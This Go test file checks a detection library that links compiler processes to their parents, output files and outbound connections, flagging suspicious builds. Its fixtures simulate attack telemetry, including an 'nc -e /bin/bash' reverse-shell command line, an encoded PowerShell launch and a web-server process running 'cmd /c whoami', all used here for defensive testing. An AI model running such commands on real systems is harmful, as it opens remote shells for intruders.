package compilelineage

import (
	"slices"
	"testing"
	"time"

	"github.com/google/uuid"
)

var t0 = time.Date(2026, 11, 1, 10, 0, 0, 0, time.UTC)

func at(sec float64) time.Time { return t0.Add(time.Duration(sec * float64(time.Second))) }

// win builds a Sysmon-style process (GUID keys).
func win(key, parent string, sec float64, path, cmdline string) Proc {
	return Proc{Key: key, ParentKey: parent, Path: path, Cmdline: cmdline, Time: at(sec), Source: "sysmon"}
}

// nix builds a pid-keyed process (audit style).
func nix(pid, ppid int64, sec float64, path, cmdline, cwd string) Proc {
	return Proc{Key: "p" + time.Duration(pid).String() + "@" + at(sec).String(), PID: pid, PPID: ppid, Path: path,
		Cmdline: cmdline, Cwd: cwd, Time: at(sec), Source: "process_events"}
}

type want struct {
	compiler, parent, class, stage, output, outputSource, origin, ancestry string
	executions, connections                                                int
	reasons, evidence                                                      []string
	notReasons                                                             []string
	clean                                                                  bool // no reason at all
}

func check(t *testing.T, got Lineage, w want) {
	t.Helper()
	if n := BaseName(got.Compiler.Path); n != w.compiler {
		t.Errorf("compiler = %q, want %q", n, w.compiler)
	}
	if n := BaseName(got.Parent.Path); n != w.parent {
		t.Errorf("parent = %q, want %q", n, w.parent)
	}
	if w.class != "" && got.ParentClass != w.class {
		t.Errorf("parent class = %q, want %q", got.ParentClass, w.class)
	}
	if got.Stage != w.stage {
		t.Errorf("stage = %q, want %q", got.Stage, w.stage)
	}
	if got.OutputPath != w.output {
		t.Errorf("output = %q, want %q", got.OutputPath, w.output)
	}
	if w.outputSource != "" && got.OutputSource != w.outputSource {
		t.Errorf("output source = %q, want %q", got.OutputSource, w.outputSource)
	}
	if got.Executions != w.executions || got.Connections != w.connections {
		t.Errorf("executions/connections = %d/%d, want %d/%d", got.Executions, got.Connections, w.executions, w.connections)
	}
	if got.ConnectionFrom != w.origin {
		t.Errorf("connection origin = %q, want %q", got.ConnectionFrom, w.origin)
	}
	if w.ancestry != "" {
		if a := joinNames(got.Ancestry); a != w.ancestry {
			t.Errorf("ancestry = %q, want %q", a, w.ancestry)
		}
	}
	for _, r := range w.reasons {
		if !slices.Contains(got.Reasons, r) {
			t.Errorf("reasons %v lack %q", got.Reasons, r)
		}
	}
	for _, r := range w.notReasons {
		if slices.Contains(got.Reasons, r) {
			t.Errorf("reasons %v should not hold %q", got.Reasons, r)
		}
	}
	if w.clean && len(got.Reasons) > 0 {
		t.Errorf("reasons = %v, want none", got.Reasons)
	}
	for _, e := range w.evidence {
		if !slices.Contains(got.Evidence, e) {
			t.Errorf("evidence %v lacks %q", got.Evidence, e)
		}
	}
}

func joinNames(n []string) string {
	s := ""
	for i, v := range n {
		if i > 0 {
			s += " > "
		}
		s += v
	}
	return s
}

const (
	fw    = `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\`
	mshta = `C:\Windows\System32\mshta.exe`
	ps    = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
)

func TestCorrelate(t *testing.T) {
	tests := []struct {
		name  string
		ev    Events
		want  []want
		count int
	}{
		{
			name: "mshta compiles, runs and connects out",
			ev: Events{Platform: "windows",
				Procs: []Proc{
					win("{e}", "", 0, `C:\Windows\explorer.exe`, "explorer.exe"),
					win("{m}", "{e}", 1, mshta, `mshta.exe C:\Users\Public\a.hta`),
					win("{c}", "{m}", 2, fw+"csc.exe", fw+`csc.exe /out:C:\Users\Public\upd.exe C:\Users\Public\upd.cs`),
					win("{r}", "{c}", 2.5, fw+"cvtres.exe", "cvtres.exe /NOLOGO"),
					win("{x}", "{m}", 4, `C:\Users\PUBLIC\upd.exe`, "upd.exe"),
				},
				Files: []FileEvent{
					{ProcKey: "{r}", Path: `C:\Users\u\AppData\Local\Temp\RES1.tmp`, Time: at(2.6)},
					{ProcKey: "{c}", Path: `C:\Users\Public\upd.exe`, Time: at(3)},
				},
				// Logged a moment before the start event of the process that made it.
				Conns: []Conn{{ProcKey: "{x}", Remote: "10.1.2.3", Port: 443, Time: at(3.5)}},
			},
			want: []want{{compiler: "csc.exe", parent: "mshta.exe", class: ClassScriptHost, stage: "network",
				output: `C:\Users\Public\upd.exe`, outputSource: "both", origin: "artifact", executions: 1, connections: 1,
				ancestry: "explorer.exe > mshta.exe > csc.exe",
				reasons:  []string{"parent_elastic_list", "user_space_parent_non_dev", "temp_output", "temp_source"},
				evidence: []string{"write:process_guid", "exec:path", "net:artifact_guid"}}},
		},
		{
			name: "powershell Add-Type: in-memory compile, the host connects out",
			ev: Events{Platform: "windows",
				Procs: []Proc{
					win("{p}", "", 0, ps, `powershell.exe -noP -sta -w 1 -enc SQBmACgA`),
					win("{c}", "{p}", 10, fw+"csc.exe", fw+`csc.exe /noconfig /fullpaths @"C:\Users\u\AppData\Local\Temp\ab\ab.cmdline"`),
					win("{r}", "{c}", 10.3, fw+"cvtres.exe", "cvtres.exe"),
				},
				Files: []FileEvent{
					{ProcKey: "{p}", Path: `C:\Users\u\AppData\Local\Temp\ab\ab.dll`, Time: at(9.9)},
					{ProcKey: "{c}", Path: `C:\Users\u\AppData\Local\Temp\ab\ab.pdb`, Time: at(10.4)},
					{ProcKey: "{c}", Path: `C:\Users\u\AppData\Local\Temp\ab\ab.dll`, Time: at(10.5)},
				},
				Conns: []Conn{
					{ProcKey: "{p}", Remote: "10.9.9.9", Port: 80, Time: at(5)}, // before the compile: not counted
					{ProcKey: "{p}", Remote: "10.10.10.5", Port: 80, Time: at(12)},
				},
			},
			want: []want{{compiler: "csc.exe", parent: "powershell.exe", class: ClassScriptHost, stage: "network",
				output: `C:\Users\u\AppData\Local\Temp\ab\ab.dll`, outputSource: "file_event", origin: "parent", connections: 1,
				reasons:  []string{"parent_encoded_powershell", "cmdline_tempfile", "temp_output", "temp_source", "user_space_parent_non_dev"},
				evidence: []string{"write:process_guid", "net:parent_guid"}}},
		},
		{
			name: "ASP.NET in w3wp: cvtres alone is the compile, the host writes the assembly",
			ev: Events{Platform: "windows",
				Procs: []Proc{
					win("{w}", "", 0, `C:\Windows\System32\inetsrv\w3wp.exe`, "w3wp.exe -ap MSExchangeOWAAppPool"),
					win("{r}", "{w}", 5, fw+"cvtres.exe", fw+`cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\Windows\TEMP\RES37C9.tmp"`),
					win("{k}", "{w}", 5.1, `C:\Windows\System32\cmd.exe`, "cmd /c whoami"),
				},
				Files: []FileEvent{
					{ProcKey: "{w}", Path: `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\b\App_Web_x1.dll`, Time: at(5.2)},
				},
			},
			want: []want{{compiler: "cvtres.exe", parent: "w3wp.exe", class: ClassWebServer, stage: "written",
				output:   `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\b\App_Web_x1.dll`,
				reasons:  []string{"parent_web_server"},
				evidence: []string{"write:parent_guid"}}},
		},
		{
			name: "developer build under Visual Studio is not suspicious",
			ev: Events{Platform: "windows",
				Procs: []Proc{
					win("{d}", "", 0, `C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\devenv.exe`, "devenv.exe"),
					win("{b}", "{d}", 1, `C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\MSBuild.exe`,
						`MSBuild.exe /nologo /nodemode:1 /nodeReuse:true /low:false`),
					win("{c}", "{b}", 2, `C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\Roslyn\csc.exe`,
						`csc.exe /noconfig /out:obj\Debug\App.dll C:\src\App\Program.cs`),
				},
				Files: []FileEvent{{ProcKey: "{c}", Path: `C:\src\App\obj\Debug\App.dll`, Time: at(3)}},
			},
			want: []want{
				{compiler: "msbuild.exe", parent: "devenv.exe", class: ClassDevTool, stage: "written", output: `C:\src\App\obj\Debug\App.dll`, clean: true},
				{compiler: "csc.exe", parent: "msbuild.exe", class: ClassBuildSystem, stage: "written", output: `C:\src\App\obj\Debug\App.dll`,
					outputSource: "file_event", clean: true},
			},
		},
		{
			name: "hollowed vbc.exe /stext is not a compile",
			ev: Events{Platform: "windows",
				Procs: []Proc{
					win("{a}", "", 0, `C:\Users\u\AppData\Roaming\x\a.exe`, "a.exe"),
					win("{v}", "{a}", 1, `C:\Windows\Microsoft.NET\Framework\v2.0.50727\vbc.exe`, `vbc.exe /stext "C:\Users\u\AppData\Local\Temp\tmp1.tmp"`),
				},
			},
			want: []want{{compiler: "vbc.exe", parent: "a.exe", class: ClassUnknown, stage: "compile",
				reasons: []string{"not_a_compile", "user_space_parent_non_dev"}}},
		},
		{
			name: "linux: gcc helpers make no rows, ld's write is the artifact, pid reuse is resolved",
			ev: Events{Platform: "linux",
				Procs: []Proc{
					nix(100, 1, 0, "/usr/sbin/nginx", "nginx: worker", "/"),             // old holder of pid 100
					nix(100, 50, 100, "/bin/bash", "bash -i", "/tmp"),                   // pid 100 reused by a shell
					nix(50, 1, 90, "/usr/bin/nc", "nc -e /bin/bash 10.0.0.1 4444", "/"), // reverse shell
					nix(200, 100, 200, "/usr/bin/x86_64-linux-gnu-gcc-12", "gcc -o /tmp/.x /tmp/x.c", "/tmp"),
					nix(201, 200, 200.1, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1 /tmp/x.c", "/tmp"),
					nix(202, 200, 200.3, "/usr/bin/x86_64-linux-gnu-as", "as -o /tmp/cc.o", "/tmp"),
					nix(203, 200, 200.4, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "collect2 -o /tmp/.x", "/tmp"),
					nix(204, 203, 200.5, "/usr/bin/ld", "ld -o /tmp/.x", "/tmp"),
					nix(300, 100, 205, "/tmp/.x", "/tmp/.x", "/tmp"),
					nix(400, 1, 300, "/usr/bin/ld", "ld -o /home/u/b /home/u/b.o", "/home/u"), // ld alone: its own row
				},
				Files: []FileEvent{{PID: 204, Path: "/tmp/.x", Time: at(200.6)}},
				Conns: []Conn{{PID: 300, Remote: "203.0.113.5", Port: 8080, Time: at(206)}},
			},
			count: 2,
			want: []want{
				{compiler: "x86_64-linux-gnu-gcc-12", parent: "bash", class: ClassShell, stage: "network", output: "/tmp/.x",
					outputSource: "both", origin: "artifact", executions: 1, connections: 1, ancestry: "nc > bash > x86_64-linux-gnu-gcc-12",
					reasons: []string{"network_tool_ancestry", "temp_output", "temp_source"}, evidence: []string{"write:pid", "exec:path", "net:artifact_pid"},
					notReasons: []string{"user_space_parent_non_dev"}},
				{compiler: "ld", parent: "", stage: "compile", output: "/home/u/b", outputSource: "cmdline"},
			},
		},
		{
			name: "linux: pid-less file_events link by path and time",
			ev: Events{Platform: "linux",
				Procs: []Proc{
					nix(10, 1, 0, "/usr/sbin/apache2", "apache2 -k start", "/"),
					nix(11, 10, 50, "/usr/bin/gcc", "gcc -o /var/tmp/s /var/tmp/s.c", "/var/tmp"),
				},
				Files: []FileEvent{
					{Path: "/var/tmp/s", Time: at(51), SHA256: "abc"},
					{Path: "/var/tmp/s", Time: at(5000)}, // long after: not this compile's write
				},
			},
			want: []want{{compiler: "gcc", parent: "apache2", class: ClassWebServer, stage: "written", output: "/var/tmp/s",
				outputSource: "both", reasons: []string{"parent_web_server", "temp_output"}, evidence: []string{"write:path_time"}}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Correlate(&tt.ev, Params{})
			if len(got) != len(tt.want) {
				t.Fatalf("got %d lineages, want %d: %v", len(got), len(tt.want), got)
			}
			for i := range tt.want {
				check(t, got[i], tt.want[i])
			}
		})
	}
}

func TestCorrelateIDsAreStable(t *testing.T) {
	ev := Events{Platform: "windows", Procs: []Proc{win("{c}", "", 1, fw+"csc.exe", "csc.exe x.cs")}}
	a := Correlate(&ev, Params{})
	slices.Reverse(ev.Procs)
	b := Correlate(&ev, Params{})
	if len(a) != 1 || len(b) != 1 || a[0].ID != b[0].ID {
		t.Fatalf("ids differ: %v %v", a, b)
	}
	id, err := uuid.Parse(a[0].ID)
	if err != nil || id.Version() != 5 || id != uuid.NewSHA1(Namespace, []byte("|windows|{c}")) {
		t.Fatalf("id %q is not the UUIDv5 of the compiler's key: %v", a[0].ID, err)
	}
}

func TestResponseFileGivesOutput(t *testing.T) {
	ev := Events{Platform: "windows", Procs: []Proc{
		win("{c}", "", 1, fw+"csc.exe", `csc.exe /noconfig @"C:\T\a.cmdline"`),
	}, ResponseFiles: map[string]ResponseFile{
		`C:\T\a.cmdline`: {Data: []byte(`/out:"C:\ProgramData\svc.exe" "C:\T\a.0.cs"`)},
	}}
	got := Correlate(&ev, Params{})
	if len(got) != 1 || got[0].OutputPath != `C:\ProgramData\svc.exe` || got[0].OutputSource != "cmdline" {
		t.Fatalf("got %v", got)
	}
	if !slices.Contains(got[0].Reasons, "temp_output") || !slices.Contains(got[0].Evidence, "output:response_file") {
		t.Fatalf("reasons %v evidence %v", got[0].Reasons, got[0].Evidence)
	}
}

func TestTerminalBuildIsADevelopmentEnvironment(t *testing.T) {
	msbuild := fw + "MSBuild.exe"
	tests := []struct {
		name, cmdline, cwd string
		flagged            bool
	}{
		{"project under a source folder", `MSBuild.exe C:\src\app\app.csproj /p:Configuration=Debug`, `C:\src\app`, false},
		{"solution relative to the working folder", `MSBuild.exe app.sln`, `C:\Users\dev\source\repos\app`, false},
		{"project in system32", `MSBuild.exe xxxFile.csproj`, `C:\Windows\system32\`, true},
		{"project in Downloads", `MSBuild.exe C:\Users\u\Downloads\x.csproj`, ``, true},
		{"inline task xml", `MSBuild.exe C:\src\x.xml`, ``, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := win("{b}", "{p}", 1, msbuild, tt.cmdline)
			c.Cwd = tt.cwd
			ev := Events{Platform: "windows", Procs: []Proc{win("{p}", "", 0, ps, "powershell.exe"), c}}
			got := Correlate(&ev, Params{})
			if len(got) != 1 {
				t.Fatalf("got %v", got)
			}
			if flagged := slices.Contains(got[0].Reasons, "user_space_parent_non_dev"); flagged != tt.flagged {
				t.Fatalf("user_space_parent_non_dev = %v, want %v (reasons %v)", flagged, tt.flagged, got[0].Reasons)
			}
		})
	}
}

func TestDeveloperPromptCompile(t *testing.T) {
	vs := `C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\Roslyn\csc.exe`
	for path, flagged := range map[string]bool{vs: false, fw + "csc.exe": true} {
		ev := Events{Platform: "windows", Procs: []Proc{
			win("{s}", "", 0, `C:\Windows\System32\cmd.exe`, "cmd.exe /k VsDevCmd.bat"),
			win("{c}", "{s}", 1, path, "csc.exe hello.cs"),
		}}
		got := Correlate(&ev, Params{})
		if len(got) != 1 || slices.Contains(got[0].Reasons, "user_space_parent_non_dev") != flagged {
			t.Errorf("%s: reasons %v, want user_space_parent_non_dev = %v", path, got[0].Reasons, flagged)
		}
	}
}

func TestOsacompileIsACompiler(t *testing.T) {
	ev := Events{Platform: "darwin", Procs: []Proc{
		nix(10, 1, 0, "/bin/zsh", "zsh", "/Users/a"),
		nix(11, 10, 1, "/usr/bin/osacompile", "osacompile -o /Users/Shared/x.scpt /tmp/x.applescript", "/Users/a"),
	}}
	got := Correlate(&ev, Params{})
	if len(got) != 1 || got[0].OutputPath != "/Users/Shared/x.scpt" || !slices.Contains(got[0].Reasons, "temp_source") {
		t.Fatalf("got %v", got)
	}
}
